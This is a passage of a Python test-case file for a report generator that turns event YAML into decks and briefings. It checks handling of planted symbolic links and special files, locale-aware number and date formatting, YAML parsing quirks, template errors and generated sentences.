        record.write_text("[" * 30_000 + "]" * 30_000)  # within the 64 KiB a record may have
    return [str(WAIC), "--templates", str(WAIC.parents[1] / "templates")]


def charts_are_pictures(out: Path) -> None:
    from PIL import Image

    for png in out.glob("waic-2022-chart-*.png"):
        with Image.open(png) as picture:
            picture.load()


ENVIRONMENT = [
    Case(
        "planted-lock-link",
        "environment",
        plant(".reportgen.lock", "file"),
        5,
        "(the build lock) is a symbolic link",
    ),
    Case(
        "planted-cache-link",
        "environment",
        plant(".reportgen-cache", "dir"),
        5,
        "(the chart cache) is a symbolic link",
    ),
    Case(
        "planted-output-link",
        "environment",
        plant("waic-2022-deck.pptx", "file"),
        5,
        "(an output) is a symbolic link",
    ),
    Case(
        "planted-staging-link",
        "environment",
        plant(".reportgen-staging-0123456789abcdef", "dir"),
        5,
        "(a staging folder) is a symbolic link",
    ),
    Case(
        "fifo-event-file",
        "environment",
        special_event("fifo"),
        3,
        "is a FIFO (named pipe), not an event summary",
    ),
    Case("device-event-file", "environment", special_event("device"), 3, "/dev/zero: is a character device"),
    Case("folder-event-file", "environment", special_event("dir"), 3, "is a folder, not an event summary"),
    Case(
        "dangling-event-file",
        "environment",
        special_event("dangling"),
        3,
        "a link to a file that does not exist",
    ),
    Case("fifo-template", "template", special_template("fifo"), 4, "is a FIFO (named pipe), not a template"),
    Case(
        "dangling-template",
        "template",
        special_template("dangling"),
        4,
        "a link to a file that does not exist",
    ),
    Case("folder-template", "template", special_template("dir"), 4, "is a folder, not a template"),
    Case(
        "logo-link",
        "data",
        event_logo("link"),
        3,
        "/event/logo.png is a symbolic link (or reached through one)",
    ),
    Case("logo-fifo", "data", event_logo("fifo"), 3, "logo.png is a FIFO (named pipe), not a logo picture"),
    Case("logo-missing", "data", event_logo("missing"), 3, "/event/logo.png: no such file"),
    Case("dangling-project-file", "environment", dangling_project, 3, "a link to a file that does not exist"),
    Case(
        "poisoned-chart-cache",
        "environment",
        poisoned_cache,
        0,
        "does not match its recorded hash; it was dropped and the chart redrawn",
        check=charts_are_pictures,
    ),
]

# -- agreement: what inspect and validate pass, build renders (issue 16) ---------------------------------


def retag_deck(slide: int, shape: str, old: str, new: str) -> Callable[[Presentation], None]:
    def edit(prs: Presentation) -> None:
        target = next(s for s in prs.slides[slide - 1].shapes if s.name == shape)
        run = next(r for p in target.text_frame.paragraphs for r in p.runs if old in r.text)
        run.text = run.text.replace(old, new)

    return edit


def retag_briefing(number: int, old: str, new: str) -> Callable[[Document], None]:
    """Body paragraph `number`, counted as build and inspect count them (tables included)."""

    def edit(doc: Document) -> None:
        paragraph = list(word_paragraphs(doc.element.body))[number - 1]
        text = next(t for t in paragraph.iter(qn("w:t")) if old in (t.text or ""))
        text.text = text.text.replace(old, new)

    return edit


def both_templates(deck: Callable[[Presentation], None], briefing: Callable[[Document], None]):
    def make(tmp: Path) -> list[str]:
        deck_edit(deck)(tmp)
        return briefing_edit(briefing)(tmp)

    return make


# -- numbers in every locale, and templates compiled in another (issue 16) -------------------------


def waic_in(locale: str, tmp: Path) -> Path:
    path = tmp / f"waic-{locale}.yaml"
    path.write_text(
        WAIC.read_text(encoding="utf-8").replace("  locale: en_GB\n", f"  locale: {locale}\n", 1),
        encoding="utf-8",
    )
    return path


def in_locale(locale: str) -> Callable[[Path], list[str]]:
    return lambda tmp: [str(waic_in(locale, tmp))]


def in_locale_without_labels(locale: str) -> Callable[[Path], list[str]]:
    """WAIC in `locale`, its currency named in the language's own word (no `currency_labels`)."""

    def make(tmp: Path) -> list[str]:
        path = waic_in(locale, tmp)
        text = path.read_text(encoding="utf-8")
        labels = "  currency_labels:\n    CNY: {en: RMB, zh: 元}\n"
        assert labels in text
        path.write_text(text.replace(labels, ""), encoding="utf-8")
        return [str(path)]

    return make


def tied_in_briefing(*needles: str) -> Callable[[Path], None]:
    """Each text is in the briefing's XML as it must print: its no-break spaces in place."""

    def check(out: Path) -> None:
        briefing = out / "te-2025-briefing.docx"
        with zipfile.ZipFile(briefing) as package:
            xml = package.read("word/document.xml").decode()
        for needle in needles:
            assert needle in xml, needle

    return check


def in_currency(locale: str, currency: str) -> Callable[[Path], list[str]]:
    """WAIC in `locale`, its amounts in `currency` (the locale's own), named in the language's word."""

    def make(tmp: Path) -> list[str]:
        path = in_locale_without_labels(locale)(tmp)[0]
        text = Path(path).read_text(encoding="utf-8")
        assert "currency: CNY" in text
        Path(path).write_text(text.replace("currency: CNY", f"currency: {currency}"), encoding="utf-8")
        return [path]

    return make


def printed(*needles: str) -> Callable[[Path], None]:
    """Each text is in the briefing and on the deck's slides (a no-break space, which keeps a
    number with its scale word or currency, reads as a space: data/typography.py)."""

    def check(out: Path) -> None:
        spaces = str.maketrans({"\u00a0": " "})
        briefing = out / "waic-2022-briefing.docx"
        with zipfile.ZipFile(briefing) as package:  # a chart picture prints its values: its alt text
            alts = re.findall(r'descr="([^"]*)"', package.read("word/document.xml").decode("utf-8"))
        texts = (
            (docx_text(briefing) + "\n" + "\n".join(html.unescape(a) for a in alts)).translate(spaces),
            "\n".join(pptx_slide_texts(out / "waic-2022-deck.pptx")).translate(spaces),
        )
        for needle in needles:  # as written, or leading a sentence ('Mehr als 638 Millionen …')
            said = (needle.translate(spaces), needle[:1].upper() + needle[1:].translate(spaces))
            for text in texts:  # a tile sets its qualifier on the line above its number
                tile = (text, text.replace("\n", " "), text.replace("\n", ""))
                assert any(n in t for n in said for t in tile), needle

    return check


def tile_lines(*numbers: str, alone: tuple[str, ...] = ()) -> Callable[[Path], None]:
    """Each number is a line of the deck's own (a tile's number with its counter: '25个'), and none
    of `alone` (a counter) is a line by itself (reviewers saw '612 / 支': issue 19)."""

    def check(out: Path) -> None:
        from ..conftest import INVISIBLE

        deck = Presentation(str(out / "waic-2022-deck.pptx"))
        lines = {
            line.translate(INVISIBLE)
            for slide in deck.slides
            for shape in slide.shapes
            if shape.has_text_frame
            for p in shape.text_frame.paragraphs
            for line in p.text.split("\x0b")
        }
        assert [n for n in numbers if n not in lines] == [], sorted(lines)
        assert [a for a in alone if a in lines] == [], sorted(lines)

    return check


LITERAL_FILTERS = "{{ 180000000|number }} | {{ 1500000000|money('EUR') }} | {{ 12500|number }}"


def literal_filters_after_en_gb(locale: str) -> Callable[[Path], list[str]]:
    """Templates with constant filter calls, built in en_GB first (warming the compiled-template
    caches, in memory and on disk), then in `locale`."""

    def make(tmp: Path) -> list[str]:
        from reportgen.pipeline.pipeline import build
        from reportgen.project.settings import Settings

        folder = tmp / "templates"
        folder.mkdir(exist_ok=True)
        prs = Presentation(str(TEMPLATES / "deck.pptx"))
        title(LITERAL_FILTERS)(prs)
        prs.save(str(folder / "deck.pptx"))
        doc = Document(str(TEMPLATES / "briefing.docx"))
        body(LITERAL_FILTERS)(doc)
        doc.save(str(folder / "briefing.docx"))
        build(waic_in("en_GB", tmp), Settings.simple(tmp / "en_GB", folder))
        return [str(waic_in(locale, tmp)), "--templates", str(folder)]

    return make


def many_facts(tmp: Path) -> list[str]:
    """26 sections of 200 figures and a list: each section within its limits, the event beyond the
    model's (5,226 facts)."""
    sections = {
        f"s{s}": {
            "title": f"S{s}",
            "figures": {f"f{f}": {"label": f"F{f}", "value": f} for f in range(200)},
            "lists": {"topics": {"label": "Topics", "items": ["one"]}},
        }
        for s in range(26)
    }
    event = {
        "event": {
            "name": "Big",
            "short_name": "Big",
            "year": 2025,
            "city": "X",
            "closing_date": "2025-05-04",
        },
        "sources": {"release": {"title": "Release"}},
        "sections": sections,
    }
    path = tmp / "event.yaml"
    path.write_text(json.dumps(event), encoding="utf-8")  # JSON is YAML
    return [str(path)]


AGREEMENT = [
    Case(
        "name-typo-in-a-slide-loop",
        "template",
        deck_edit(retag_deck(12, "Section name", "{{ s.title }}", "{{ s.sumary }}")),
        4,
        "slide 12, shape 'Section name' ({{ s.sumary }}): 'SectionView' has no attribute 'sumary'",
    ),
    Case(
        "name-typo-in-a-paragraph-loop",
        "template",
        briefing_edit(retag_briefing(briefing_paragraph("{{ s.title }}"), "{{ s.title }}", "{{ s.sumary }}")),
        4,
        f"body, paragraph {briefing_paragraph('{{ s.title }}')} ({{{{ s.sumary }}}}): "
        "'SectionView' has no attribute 'sumary'",
    ),
    Case(
        "name-typo-in-a-row-loop",
        "template",
        briefing_edit(retag_briefing(briefing_paragraph("{{ f.label }}"), "{{ f.label }}", "{{ f.lable }}")),
        4,
        f"body, paragraph {briefing_paragraph('{{ f.label }}')} ({{{{ f.lable }}}}): "
        "'FigureView' has no attribute 'lable'",
    ),
    Case(
        "errors-in-both-templates-all-reported",
        "template",
        both_templates(
            retag_deck(12, "Section name", "{{ s.title }}", "{{ s.sumary }}"),
            retag_briefing(
                briefing_paragraph("{{ person.sentence }}"), "{{ person.sentence }}", "{{ person.sentense }}"
            ),
        ),
        4,
        "error: 2 template errors (nothing was written):",
    ),
    Case(
        "event-beyond-the-fact-limit",
        "data",
        many_facts,
        3,
        "sections: the event has 5,226 facts (figures, people, launches and lists over all sections); "
        "an event holds at most 5,000",
    ),
]


def digits_printed(out: Path) -> None:
    for path in (out / "te-2025-briefing.docx", out / "te-2025-deck.pptx"):
        text = docx_text(path) if path.suffix == ".docx" else "\n".join(pptx_slide_texts(path))
        assert "999,999,999,999,999,999.999999999999" in text, path.name


BREAKDOWN_OFF_BY_ONE = """\
        breakdown:
          online: {label: Online, value: 170000000}
          tv: {label: TV, value: 1}
"""

NUMBERS = [
    Case(
        "breakdown-off-by-one",  # the message shows every digit, not '1.7e+08, not 1.7e+08'
        "data",
        edited(
            "        value: 1000\n        qualifier: more than\n",
            "        value: 170000000\n" + BREAKDOWN_OFF_BY_ONE,
        ),
        3,
        "the breakdown adds up to 170,000,001, not 170,000,000",
    ),
    Case(
        "breakdown-of-31-digit-parts",  # summed in 28 digits, these came to exactly 10^18
        "data",
        edited(
            "        value: 1000\n        qualifier: more than\n",
            "        value: 1000000000000000000\n"
            + BREAKDOWN_OFF_BY_ONE.replace("170000000", "999999999999999999.999999999999").replace(
                "value: 1}", "value: 0.000000000002}"
            ),
        ),
        3,
        "adds up to 1,000,000,000,000,000,000.000000000001, not 1,000,000,000,000,000,000",
    ),
    Case(
        "thirty-one-digits",  # the largest value with the most decimals an event may hold
        "data",
        edited("        value: 1000", "        value: 999999999999999999.999999999999"),
        0,
        "built TE 2025",
        check=digits_printed,
    ),
    Case(
        "zh-cn-amounts",
        "data",
        in_locale("zh_CN"),
        0,
        "built WAIC 2022",
        check=printed("超过6.38亿", "近150亿元", "截至2022年9月3日14:00"),  # never "14 下午"
    ),
    Case(  # a Chinese counter stays on its number's line in a tile: '25个', never '25 / 个'
        "zh-cn-tile-counters",
        "data",
        in_locale("zh_CN"),
        0,
        "built WAIC 2022",
        check=tile_lines("25个", "37万人次", "6.38亿人次", alone=("个", "人次", "万人次")),
    ),
    Case(  # reviewers: a user's quote broke before 'Euro' (issue 19, class 7)
        "de-users-amount-kept-whole",
        "data",
        event_text(
            MINIMAL.replace("sources:", "formatting:\n  locale: de_DE\nsources:", 1).replace(
                "    summary: Who came.",
                "    summary: Am 12. November 2026 sagten Firmen mehr als 3,8 Milliarden Euro zu.",
                1,
            )
        ),
        0,
        "built TE 2025",
        # the qualifier and the date too: 'mehr als / 3,8 Milliarden', '12. / November' broke
        check=tied_in_briefing(
            "mehr\u00a0als\u00a03,8\u00a0Milliarden\u00a0Euro", "12.\u00a0November\u00a02026"
        ),
    ),
    Case(  # reviewers: 'le 12 / novembre 2026' and 'près de / 15 milliards' in a French user's text
        "fr-users-date-and-qualifier-kept-whole",
        "data",
        event_text(
            MINIMAL.replace("sources:", "formatting:\n  locale: fr_FR\nsources:", 1).replace(
                "    summary: Who came.",
                "    summary: Le salon a fermé le 12 novembre 2026 ; près de 15 milliards d’euros promis.",
                1,
            )
        ),
        0,
        "built TE 2025",
        check=tied_in_briefing(
            "le 12\u00a0novembre\u00a02026", "près\u00a0de\u00a015\u00a0milliards\u00a0d’euros"
        ),
    ),
    Case(  # reviewers: 'nearly / RMB 15 billion' and '3 / September' in an English user's text
        "en-users-qualifier-over-currency-kept-whole",
        "data",
        edited(
            "    summary: Who came.", "    summary: On 3 September 2022 firms pledged nearly RMB 15 billion."
        ),
        0,
        "built TE 2025",
        check=tied_in_briefing("On 3\u00a0September\u00a02022", "nearly\u00a0RMB\u00a015\u00a0billion"),
    ),
    Case(
        "ja-jp-amounts",
        "data",
        in_locale("ja_JP"),
        0,
        "built WAIC 2022",
        check=printed("6億3800万以上", "150億 RMB近く", "2022年9月3日14:00時点"),
    ),
    Case(  # a reviewer's zh_TW expo printed 'Closing briefing', “…” and 'Theme：' in English marks
        "zh-tw-words-and-marks",
        "data",
        in_locale("zh_TW"),
        0,
        "built WAIC 2022",
        check=printed("閉幕簡報·", "超過6.38億", "「智联世界 元生无界」"),
    ),
    Case(  # a reviewer's Japanese fair: '閉幕報告 · 商談会' with a Latin dot
        "ja-jp-heading-dot",
        "data",
        in_locale("ja_JP"),
        0,
        "built WAIC 2022",
        check=printed("閉幕報告・"),
    ),
    Case(
        "de-de-phrases",
        "data",
        in_locale("de_DE"),
        0,
        "built WAIC 2022",
        check=printed(
            # a number keeps its scale word and currency on its line: no-break spaces (typography.py)
            "mehr als 638\u00a0Millionen",
            "knapp 15\u00a0Milliarden RMB",
            "Stand: 3.\u00a0September 2022, 14:00 Uhr",
        ),
    ),
    Case(
        "locale-without-words",  # English words in a Finnish document: built, and said (--strict: 6)
        "data",
        in_locale("fi_FI"),
        0,
        "warning: formatting.locale fi_FI: reportgen has no 'fi' words for qualifiers",
        check=printed("more than 638 miljoonaa", "as of 2 ip. on 3. syyskuuta 2022"),
    ),
    Case(
        "locale-spanish-words",  # a Spanish document in Spanish words, with no warning
        "data",
        in_locale("es_ES"),
        0,
        "built WAIC 2022",
        check=printed("más de 638 millones", "al corte de las 14:00 horas del 3 de septiembre de 2022"),
    ),
    Case(
        "locale-polish-words",  # Polish: the press's short scale words, 'stan na', never English
        "data",
        in_locale("pl_PL"),
        0,
        "built WAIC 2022",
        check=printed("ponad 638 mln", "prawie 15 mld RMB", "stan na 3 września 2022, godz. 14:00"),
    ),
    Case(
        "locale-swedish-words",  # Swedish: 'drygt', 'miljarder', 'kl. 14.00', never English
        "data",
        in_locale("sv_SE"),
        0,
        "built WAIC 2022",
        check=printed("drygt 638 miljoner", "nästan 15 miljarder RMB", "per den 3 september 2022 kl. 14.00"),
    ),
    Case(
        "locale-polish-zloty",  # the złoty's short name after the press's scale word: '150 mln zł'
        "data",
        in_currency("pl_PL", "PLN"),
        0,
        "built WAIC 2022",
        check=printed("prawie 15 mld zł"),
    ),
    Case(
        "locale-swedish-kronor",  # kronor, in the plural after a scale word: '15 miljarder kronor'
        "data",
        in_currency("sv_SE", "SEK"),
        0,
        "built WAIC 2022",
        check=printed("nästan 15 miljarder kronor"),
    ),
    Case(
        "locale-korean-words",  # Korean puts 'more than' after the amount and 'as of' last
        "data",
        in_locale("ko_KR"),
        0,
        "built WAIC 2022",
        check=printed("6억 3800만 이상", "2022년 9월 3일 오후 2시 기준"),  # never '6.38억' (issue 19)
    ),
    Case(
        "locale-korean-scale-spacing",  # a space after 억 before the currency's word: '150억 위안'
        "data",
        in_locale_without_labels("ko_KR"),
        0,
        "built WAIC 2022",
        check=printed("150억 위안 가까이"),
    ),
    Case(  # a Taiwanese editor names a currency called …幣 before the amount, its 元 after (issue 19)
        "zh-tw-currency-before-its-amount",
        "data",
        in_locale_without_labels("zh_TW"),
        0,
        "built WAIC 2022",
        check=printed("近人民幣150億元", "超過6.38億"),
    ),
    Case(
        "en-in-amounts",
        "data",
        in_locale("en_IN"),
        0,
        "built WAIC 2022",
        check=printed("more than 63.8\u202fcrore"),
    ),
    Case(
        "literal-filters-de-after-en",
        "template",
        literal_filters_after_en_gb("de_DE"),
        0,
        "built WAIC 2022",
        check=printed("180\u00a0Millionen | 1,5\u00a0Milliarden Euro | 12.500"),
    ),
    Case(
        "literal-filters-zh-after-en",
        "template",
        literal_filters_after_en_gb("zh_CN"),
        0,
        "built WAIC 2022",
        check=printed("1.8亿 | 15亿欧元 | 1.25万"),
    ),
    Case(  # CLDR's minimumGroupingDigits 2 in Spain, which Babel ignores: '1500 millones' (issue 19)
        "literal-filters-es-after-en",
        "template",
        literal_filters_after_en_gb("es_ES"),
        0,
        "built WAIC 2022",
        check=printed("180 millones | 1500 millones de euros | 12.500"),
    ),
]

# -- YAML that libyaml and ruamel once read differently (issue 16, item 14) -----------------------

YAML_AGREEMENT = [
    Case(
        "tab-after-colon", "data", edited("  city: Lyon", "  city:\tLyon"), 3, "replace the tab with spaces"
    ),
    Case(
        "tab-after-value", "data", edited("  city: Lyon", "  city: Lyon\t"), 3, "event.yaml:6:13: YAML syntax"
    ),
    Case(
        "tab-only-value", "data", edited("  theme: Open doors", "  theme:  \t  "), 3, "the line holds a tab"
    ),
    Case(
        "nel-line-break",
        "data",
        edited("  city: Lyon\n", "  city: Lyon\x85"),
        3,
        "U+0085, which YAML does not",
    ),
    Case(
        "ls-line-break",
        "data",
        edited("  city: Lyon\n", "  city: Lyon\u2028"),
        3,
        "U+2028, which YAML does not",
    ),
    Case(
        "ps-line-break",
        "data",
        edited("  city: Lyon\n", "  city: Lyon\u2029"),
        3,
        "U+2029, which YAML does not",
    ),
    Case(
        "empty-int-tag",
        "data",
        edited("        value: 1000", "        value: !!int ''"),
        3,
        "event.yaml:19:16: sections.reach.figures.online_viewers.value: cannot read the value ''",
    ),
    Case("yaml-1-1-words", "data", edited("  theme: Open doors", "  theme: yes"), 0, "built TE 2025"),
    Case(
        "non-specific-tag",
        "data",
        edited("  city: Lyon", "  city: !"),
        3,
        "event.city: expected text, got None",
    ),
    Case("crlf", "data", event_text(MINIMAL.replace("\n", "\r\n")), 0, "built TE 2025"),
    Case("bom-inside", "data", event_text(MINIMAL + "\ufeff"), 3, "line 27 holds a byte order mark (U+FEFF)"),
]


ENVIRONMENT += [
    Case(
        "stamp-fifo",
        "environment",
        stamp_fifo,
        0,
        "/out/.reportgen-stamp.json is a FIFO (named pipe), not a regular file; it is not a stamp",
    ),
    Case(
        "journal-fifo",
        "environment",
        killed_build("fifo"),
        0,
        f"{STAGED}/journal.json: it is a FIFO (named pipe), not a regular file; the interrupted build",
    ),
    Case(
        "journal-deep",
        "environment",
        killed_build("deep"),
        0,
        f"{STAGED}/journal.json: it is not JSON; the interrupted build it belongs to was discarded",
    ),
    Case(
        "journal-of-another-user",
        "environment",
        killed_build("planted", owner=12345),
        0,
        f"{STAGED}: it is not a staging folder this user's build made",
        check=nothing_planted,
    ),
    Case(
        "cache-record-deep",
        "environment",
        deep_cache_record,
        0,
        "the cached picture has a damaged record; it was dropped and the chart redrawn",
        check=charts_are_pictures,
    ),
]

# -- the document check (issue 19): built, and said (--strict: 6) -----------------------------------


def _nowhere(text: str) -> Callable[[Path], None]:
    def check(out: Path) -> None:
        for deck in out.glob("*.pptx"):
            assert not any(text in slide for slide in pptx_slide_texts(deck)), deck
        for briefing in out.glob("*.docx"):
            assert text not in docx_text(briefing), briefing

    return check


def _untitled_slide_deck(tmp: Path) -> list[str]:
    """A user's deck with a slide that has no title placeholder, only a text box."""
    folder = tmp / "templates"
    folder.mkdir()
    prs = Presentation(str(TEMPLATES / "deck.pptx"))
    slide = prs.slides.add_slide(next(layout for layout in prs.slide_layouts if layout.name == "Blank"))
    slide.shapes.add_textbox(0, 0, prs.slide_width // 2, prs.slide_height // 4).text_frame.text = "Thank you"
    prs.save(str(folder / "deck.pptx"))
    return [*edited("city: Lyon", "city: Lyon")(tmp), "--templates", str(folder)]


def _breakdown_chart(parts: list[tuple[str, int]]) -> Callable[[Path], list[str]]:
    """The minimal event with a bar chart of one figure's breakdown into `parts`, in that order."""
    lines = "".join(
        f"          p{n}: {{label: '{label}', value: {value}}}\n" for n, (label, value) in enumerate(parts)
    )
    text = (
        MINIMAL.replace("        key: true\n", f"        key: true\n        breakdown:\n{lines}", 1)
        + "charts:\n  parts:\n    title: Parts\n    kind: bar\n    breakdown: true\n"
        + "    figures: [reach.online_viewers]\n"
    )
    return event_text(
        text.replace("value: 1000\n        qualifier: more than", f"value: {sum(v for _, v in parts)}", 1)
    )


def _deck_categories(*labels: str) -> Callable[[Path], None]:
    def check(out: Path) -> None:
        deck = Presentation(str(out / "te-2025-deck.pptx"))
        (chart,) = [s.chart for slide in deck.slides for s in slide.shapes if s.has_chart]
        # as seen: 'Under\u00a012' keeps its qualifier with its number (data/ties.py)
        assert [str(c).replace("\u00a0", " ") for c in chart.plots[0].categories] == list(labels)

    return check


_DAYS = [("7月24日（金）", 48200), ("7月25日（土）", 66900), ("7月26日（日）", 72300)]
_AGES = [("Under 12", 290), ("12–17", 340), ("18–29", 610), ("65歳以上", 90)]
_CITIES = [("Paris", 290), ("Berlin", 610), ("Madrid", 340)]
#: Ordered categories keep the data's order however their numbers run (issue 19, class 6); names
#: are sorted by value.
CHART_ORDER = [
    Case(
        "days-of-a-convention",
        "data",
        _breakdown_chart(_DAYS),
        0,
        "built TE 2025",
        check=_deck_categories(*(label for label, _ in _DAYS)),
    ),
    Case(
        "age-groups-open-at-both-ends",
        "data",
        _breakdown_chart(_AGES),
        0,
        "built TE 2025",
        check=_deck_categories(*(label for label, _ in _AGES)),
    ),
    Case(
        "cities-by-value",
        "data",
        _breakdown_chart(_CITIES),
        0,
        "built TE 2025",
        check=_deck_categories("Berlin", "Madrid", "Paris"),
    ),
]

DOCUMENT_CHECK = [
    Case(
        "todo-in-a-summary",  # a note to the author printed for readers: validate and build say so
        "data",
        edited("summary: Who came.", "summary: 'TODO: say who came.'"),
        0,
        "'TODO' addresses the file's author, not its readers",
    ),
    Case(
        "comment-is-never-printed",  # and, never printed, never warned about
        "data",
        edited("        key: true\n", "        key: true\n        comment: 'TODO: ask the organiser'\n"),
        0,
        "built TE 2025",
        check=_nowhere("ask the organiser"),
    ),
    Case("slide-without-title", "template", _untitled_slide_deck, 0, "the slide has no title"),
    Case(
        "figure-restated-in-other-forms",  # a summary's '1 000' and '1 thousand' are the tile's '1,000'
        "data",
        edited("summary: Who came.", "summary: More than 1 000 viewers came, over 1 thousand."),
        0,
        "te-2025-briefing.docx: the figure '1,000' is printed 3 times (paragraph 5 (under 'Test Expo "
        "2025'), paragraph 8 (under 'Reach') (2 times): written '1,000', '1 000', '1 thousand')",
    ),
]

# -- a template's theme is read for its colours: anything but 6-digit RGB falls back, with a warning
_THEME_WARNING = "its theme's colours could not be read"
THEMES = [
    Case(
        "briefing-theme-junk-colour",
        "template",
        package_bytes(
            "briefing.docx",
            rezip(edit=("word/theme/theme1.xml", lambda xml: xml.replace(b'"0B3C5D"', b'"GGGGGG"'))),
        ),
        0,
        f"templates/briefing.docx: {_THEME_WARNING}",
    ),
    Case(
        "deck-theme-colour-as-preset",
        "template",
        package_bytes(
            "deck.pptx",
            rezip(
                edit=(
                    "ppt/theme/theme1.xml",
                    lambda xml: xml.replace(b'<a:srgbClr val="328CC1"/>', b'<a:prstClr val="red"/>'),
                )
            ),
        ),
        0,
        f"templates/deck.pptx: {_THEME_WARNING}",
    ),
]

_LAUNCH_FIGURE = """\
    people:
      - {name: Zhang Wei, titles: [Vice Mayor of Shanghai], role: declared the conference closed}
    launches:
      - name: 5G-A agreement with China Mobile
        figures: [term]
    lists:
"""
_TERM = """\
      term: {label: Term of the 5G-A agreement with China Mobile, value: 3, unit: years}
      countries: {label: Countries, value: 12}
"""


def reads_as_sentences(out: Path) -> None:
    """Issue 19 item 4: a launch's figure is not printed under a doubled label, a proper name is
    not quoted with a full stop after it, a person is a sentence, a list ends with 'and'."""
    briefing = docx_text(out / "te-2025-briefing.docx")
    deck = "\n".join(pptx_slide_texts(out / "te-2025-deck.pptx"))
    assert "\n5G-A agreement with China Mobile: 3 years\n" in deck  # the figure once, in its launch's line
    assert "Term of the" not in deck and "China Mobile\u201d" not in deck + briefing
    # a bullet, once, as a sentence (its label one singular noun phrase: data/sentences.py)
    assert "\nThe term of the 5G-A agreement with China Mobile was 3 years.\n" in briefing
    assert "Zhang Wei, Vice Mayor of Shanghai, declared the conference closed." in deck + briefing
    assert "Topics: one and two" in deck + briefing


_FRENCH_AMOUNTS = """\
        key: true
      hausse: {label: Hausse de la fréquentation, value: 6.7, unit: "%"}
      enveloppe: {label: Enveloppe régionale, value: 3000000, currency: EUR}
      budget: {label: Budget du festival, value: 2000000, currency: EUR, qualifier: up to}
"""


def french_amounts_read_as_sentences(out: Path) -> None:
    """Issue 19: a French sum or measure is a sentence whose article and verb agree with its label
    ('La hausse', h aspiré; 'L’enveloppe … s’est élevée'); 'up to' after 'à' would read 'à
    jusqu’à', so that line stays 'Label : value' (and validate asks for its sentence)."""
    briefing = docx_text(out / "te-2025-briefing.docx").replace("\u00a0", " ").replace("\u202f", " ")
    deck = (
        "\n".join(pptx_slide_texts(out / "te-2025-deck.pptx")).replace("\u00a0", " ").replace("\u202f", " ")
    )
    for text in (briefing, deck):
        assert "\nLa hausse de la fréquentation a été de 6,7 %.\n" in text
        assert "\nL’enveloppe régionale s’est élevée à 3 millions d’euros.\n" in text
        assert "\nBudget du festival : jusqu’à 2 millions d’euros\n" in text


SENTENCES = [
    Case(
        "a-launch-figure-that-repeats-the-launch-name",
        "data",
        event_text(
            MINIMAL.replace("    lists:\n", _LAUNCH_FIGURE, 1).replace(
                "        key: true\n", "        key: true\n" + _TERM, 1
            )
        ),
        0,
        "built TE 2025",
        check=reads_as_sentences,
    ),
    Case(
        "french-amounts-with-feminine-elided-and-up-to-labels",
        "data",
        event_text(
            MINIMAL.replace("        key: true\n", _FRENCH_AMOUNTS, 1) + "formatting:\n  locale: fr_FR\n"
        ),
        0,
        "built TE 2025",
        check=french_amounts_read_as_sentences,
    ),
    # a figure's own sentence (issue 19): its words around one {value}, no number of its own
    Case(
        "figure-sentence-with-two-values",
        "data",
        edited("        key: true\n", "        key: true\n        sentence: '{value} and {value} watched'\n"),
        3,
        "event.yaml:23:19: sections.reach.figures.online_viewers.sentence: holds {value} 2 times; "
        "write it once, where the figure's number goes",
    ),
    Case(
        "figure-sentence-with-a-number-of-its-own",
        "data",
        edited("        key: true\n", "        key: true\n        sentence: Up 12,000, {value} watched\n"),
        3,
        "event.yaml:23:19: sections.reach.figures.online_viewers.sentence: holds the number '12,000' of "
        "its own; amounts belong in figures",
    ),
    Case(
        "figure-sentence-with-another-placeholder",
        "data",
        edited("        key: true\n", "        key: true\n        sentence: '{value} watched {where}'\n"),
        3,
        "sections.reach.figures.online_viewers.sentence: holds '{' outside {value}",
    ),
    Case(
        "figure-sentence-translation-without-its-value",
        "data",
        edited(
            "        key: true\n",
            "        key: true\n        sentence: {en: '{value} watched online.', zh: 线上观看}\n",
        ),
        3,
        "event.yaml:23:55: sections.reach.figures.online_viewers.sentence.zh: the zh translation "
        "holds {value} 0 times",
    ),
    Case(
        "figure-sentence-printed-in-its-words",
        "data",
        edited(
            "        key: true\n",
            "        key: true\n      prize:\n        label: Prize money for the winner\n"
            "        value: 20000\n        currency: GBP\n        deck: bullet\n"
            "        sentence: The winner took home {value}.\n",
        ),
        0,
        "built TE 2025",
        check=literal_in_documents("The winner took home £20,000."),
    ),
]


# -- titles from what a slide says (issue 19 item 5): a section of voices is titled with a quotation --

_VOICES = """\
  voices:
    title: Voices
    people:
      - name: Ana Sample
        role: opened the fair
        quote: {source: release, text: "{{ event.name }} was packed from the first hour. Come back in 2026."}
      - name: Ben Sample
        role: closed the fair
        quote: {source: release, text: "1,000 viewers watched online."}
"""


def voices_titled_with_a_quotation(out: Path) -> None:
    """The first quotation, whole (review S: never split between title and bullet), is the slide's
    title, as data (a template's braces in it are printed, never run), credited under it; one that
    says a figure's number otherwise than the data (1,000 viewers, not 'more than') is only in the
    speaker notes."""
    titles = _deck_titles(out)
    quotation = "\u201c{{ event.name }} was packed from the first hour. Come back in 2026\u201d"
    assert quotation in titles, titles
    slides = "\n".join(pptx_slide_texts(out / "te-2025-deck.pptx"))
    assert "\u2014\u00a0Ana\u00a0Sample" in slides
    assert "1,000 viewers watched" not in slides


#: review O: a courtesy as a title, a cut summary's fragment as a lead, a number said twice
_COURTESY = """\
  thanks:
    title: Runners
    summary: Families and workplace teams made up most of the field on a cold and windy morning by the river.
    figures:
      teams: {label: Workplace teams, value: 64, unit: teams}
      volunteers: {label: Volunteers, value: 210, unit: volunteers}
    people:
      - name: Priya Sample
        role: thanked the runners and the hospice's partners
        quote: {source: release, text: "Every runner today has given a family a night of rest. Thank you."}
"""
_FRAGMENT = """\
  tickets:
    title: Tickets
    summary: >-
      Ticket sales covered most of the festival's budget, with a new pay-what-you-can Sunday
      pass for families.
    figures:
      passes: {label: Four-day passes sold, value: 14800, unit: passes}
      family: {label: Family passes, value: 2300, unit: passes, qualifier: more than}
"""
_RESTATED = """\
  rounds:
    title: Investment
    summary: The national funds committed capital in pesos and two American funds signed letters of intent.
    figures:
      rounds:
        label: Seed rounds closed on the day
        value: 7
        unit: rounds
        sentence: Seven start-ups closed their seed round on the same day, with {value} in total.
      mentors: {label: Mentors, value: 45, unit: mentors}
"""

_NEWS = """\
  fair:
    title: The fair in figures
    summary: >-
      Foreign wineries now make up almost one exhibitor in five and the business done at the fair
      passed forty million for the first time.
    figures:
      nights:
        label: Hotel nights
        value: 12000
        unit: nights
        sentence: Hotels in the district sold {value} during the fair.
      business:
        label: Business volume
        value: 42500000
        currency: EUR
        qualifier: more than
        headline: true
        key: true
        sentence: The fair generated business of {value}.
      tastings: {label: Guided tastings, value: 86, unit: tastings}
"""


def _deck_titles(out: Path) -> list[str]:
    prs = Presentation(str(out / "te-2025-deck.pptx"))
